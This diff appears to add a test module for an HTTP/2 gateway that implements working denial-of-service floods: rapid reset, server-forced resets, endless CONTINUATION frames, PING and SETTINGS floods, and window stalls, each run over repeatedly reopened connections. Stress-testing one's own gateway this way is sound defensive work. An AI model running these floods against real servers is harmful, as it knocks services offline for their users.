@@ -1,0 +1,189 @@
+//! Attacks that send as fast as the gateway reads; a connection that it ends is replaced at once.
+
+use std::{sync::Arc, time::Duration};
+
+use tokio::{
+    io::{AsyncWriteExt as _, sink},
+    net::TcpStream,
+    time::{sleep, timeout_at},
+};
+use tokio_util::task::AbortOnDropHandle;
+
+use super::{Attack, Done, Target};
+use crate::wire::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, SETTINGS,
+    head_block, literal,
+};
+
+/// Attackers of one kind.
+const CONNECTIONS: usize = 6;
+
+/// Before a connection is replaced: ports are not without end.
+const PAUSE: Duration = Duration::from_millis(20);
+
+/// A stream of frames.
+struct Flood {
+    /// Sent first on each connection, after the greeting.
+    opening: fn(Frames) -> Frames,
+    /// Sent again and again; told how many have gone before on this connection.
+    batch: fn(u32) -> Frames,
+    /// Frames, or what else is counted, in a batch.
+    weight: u64,
+    /// Whether what the gateway answers is read.
+    reads: bool,
+}
+
+impl Flood {
+    /// Frames that need no stream, answers read.
+    fn of(weight: u64, batch: fn(u32) -> Frames) -> Self {
+        Self { opening: |frames| frames, batch, weight, reads: true }
+    }
+
+    fn after(self, opening: fn(Frames) -> Frames) -> Self {
+        Self { opening, ..self }
+    }
+
+    fn unread(self) -> Self {
+        Self { reads: false, ..self }
+    }
+}
+
+pub(super) fn all() -> Vec<Attack> {
+    let floods = [
+        ("rapid reset", Flood::of(64, |batch| each_stream(64, batch, |frames, id| frames.head(id, &[]).reset(id)))),
+        (
+            "rapid reset of whole calls",
+            Flood::of(64, |batch| each_stream(64, batch, |frames, id| frames.call(id).reset(id))),
+        ),
+        ("resets that the gateway is made to send", Flood::of(60, |batch| each_stream(60, batch, faulty))),
+        ("CONTINUATION without end", Flood::of(4, |_| repeat(4, fat_continuation)).after(endless_head)),
+        (
+            "empty CONTINUATION without end",
+            Flood::of(512, |_| repeat(512, |frames| frames.add(CONTINUATION, 0, 1, &[]))).after(endless_head),
+        ),
+        ("header lists over the limit", Flood::of(4, |batch| each_stream(4, batch, huge_head))),
+        (
+            "empty DATA",
+            Flood::of(512, |_| repeat(512, |frames| frames.add(DATA, 0, 1, &[]))).after(|frames| frames.head(1, &[])),
+        ),
+        ("PING", Flood::of(256, |_| repeat(256, |frames| frames.add(PING, 0, 0, b"attacked")))),
+        ("PING, answers unread", Flood::of(256, |_| repeat(256, |frames| frames.add(PING, 0, 0, b"attacked"))).unread()),
+        ("SETTINGS", Flood::of(512, |_| repeat(512, |frames| frames.add(SETTINGS, 0, 0, &[])))),
+        ("SETTINGS, answers unread", Flood::of(512, |_| repeat(512, |frames| frames.add(SETTINGS, 0, 0, &[]))).unread()),
+        ("windows of many stuck answers resized", Flood::of(64, |_| repeat(32, resize)).after(stuck_answers)),
+        ("whole calls, answers unread", Flood::of(32, |batch| each_stream(32, batch, Frames::call)).unread()),
+    ];
+    let attack = |(name, flood)| Attack { name, flags: &[], run: Box::new(|target| Box::pin(run(target, flood))) };
+    floods.into_iter().map(attack).collect()
+}
+
+/// Something on each of the next streams.
+fn each_stream(number: u32, batch: u32, step: fn(Frames, u32) -> Frames) -> Frames {
+    (0..number).fold(Frames::default(), |frames, at| step(frames, (batch * number + at) * 2 + 1))
+}
+
+fn repeat(number: u32, step: fn(Frames) -> Frames) -> Frames {
+    (0..number).fold(Frames::default(), |frames, _| step(frames))
+}
+
+/// `MadeYouReset`: a call, and then a frame for which the server must reset its stream.
+fn faulty(frames: Frames, stream: u32) -> Frames {
+    match stream / 2 % 5 {
+        0 => frames.call(stream).window(stream, 0),
+        1 => frames.call(stream).add(DATA, 0, stream, b"after the end"),
+        2 => frames.call(stream).window(stream, 0x7fff_ffff),
+        3 => frames.call(stream).add(PRIORITY, 0, stream, &[0; 4]),
+        _ => {
+            let mut block = head_block(&[]);
+            literal(&mut block, "Upper-Case", "is malformed");
+            frames.add(HEADERS, END_HEADERS | END_STREAM, stream, &block)
+        }
+    }
+}
+
+fn endless_head(frames: Frames) -> Frames {
+    frames.add(HEADERS, 0, 1, &head_block(&[]))
+}
+
+fn fat_continuation(frames: Frames) -> Frames {
+    frames.add(CONTINUATION, 0, 1, &fat_block())
+}
+
+/// Almost 16 KiB of header fields, the most that one frame takes.
+fn fat_block() -> Vec<u8> {
+    let mut block = Vec::new();
+    for _ in 0..4 {
+        literal(&mut block, "x-fat", &"f".repeat(4_000));
+    }
+    block
+}
+
+/// A head of some 64 KiB that ends as it should.
+fn huge_head(frames: Frames, stream: u32) -> Frames {
+    let frames = frames.add(HEADERS, END_STREAM, stream, &head_block(&[]));
+    let frames = (0..3).fold(frames, |frames, _| frames.add(CONTINUATION, 0, stream, &fat_block()));
+    frames.add(CONTINUATION, END_HEADERS, stream, &fat_block())
+}
+
+/// Calls whose answers find no window.
+fn stuck_answers(frames: Frames) -> Frames {
+    let frames = frames.settings(&[(INITIAL_WINDOW_SIZE, 0)]);
+    (0..200).fold(frames, |frames, at| frames.call(at * 2 + 1))
+}
+
+/// Each of the two is a walk over all streams. The window stays too small for an answer.
+fn resize(frames: Frames) -> Frames {
+    frames.settings(&[(INITIAL_WINDOW_SIZE, 1)]).settings(&[(INITIAL_WINDOW_SIZE, 0)])
+}
+
+async fn run(target: Target, flood: Flood) -> Done {
+    let flood = Arc::new(flood);
+    let attackers: Vec<_> = (0..CONNECTIONS).map(|_| tokio::spawn(attacker(target, Arc::clone(&flood)))).collect();
+    let (mut batches, mut connections) = (0, 0);
+    let mut done = Done::default();
+    for attacker in attackers {
+        let (sent, opened, held) = attacker.await.expect("an attacker does not panic");
+        batches += sent;
+        connections += opened;
+        done.held.extend(held.map(|held| Box::new(held) as _));
+    }
+    done.figures.push(format!("{} sent on {connections} connections", batches * flood.weight));
+    done
+}
+
+/// Batches sent, connections opened, and the last connection.
+async fn attacker(target: Target, flood: Arc<Flood>) -> (u64, u64, Option<impl Send>) {
+    let (mut sent, mut opened) = (0, 0);
+    let end = target.end.into();
+    loop {
+        let held = async {
+            let stream = TcpStream::connect(target.address).await.ok()?;
+            opened += 1;
+            let (mut answers, mut writer) = stream.into_split();
+            // Without it, what is not read fills up and the gateway can write no more.
+            let mut unread = None;
+            let mut reader = None;
+            if flood.reads {
+                let reading = async move { drop(tokio::io::copy(&mut answers, &mut sink()).await) };
+                reader = Some(AbortOnDropHandle::new(tokio::spawn(reading)));
+            } else {
+                unread = Some(answers);
+            }
+            let mut frames = (flood.opening)(Frames::greeting(&[]));
+            for batch in 0.. {
+                match timeout_at(end, writer.write_all(&frames.0)).await {
+                    Ok(Ok(())) => sent += u64::from(batch > 0),
+                    Ok(Err(_)) => return None,
+                    Err(_) => break,
+                }
+                frames = (flood.batch)(batch);
+            }
+            Some((writer, reader, unread))
+        };
+        match held.await {
+            Some(held) => return (sent, opened, Some(held)),
+            None if std::time::Instant::now() + PAUSE > target.end => return (sent, opened, None),
+            None => sleep(PAUSE).await,
+        }
+    }
+}
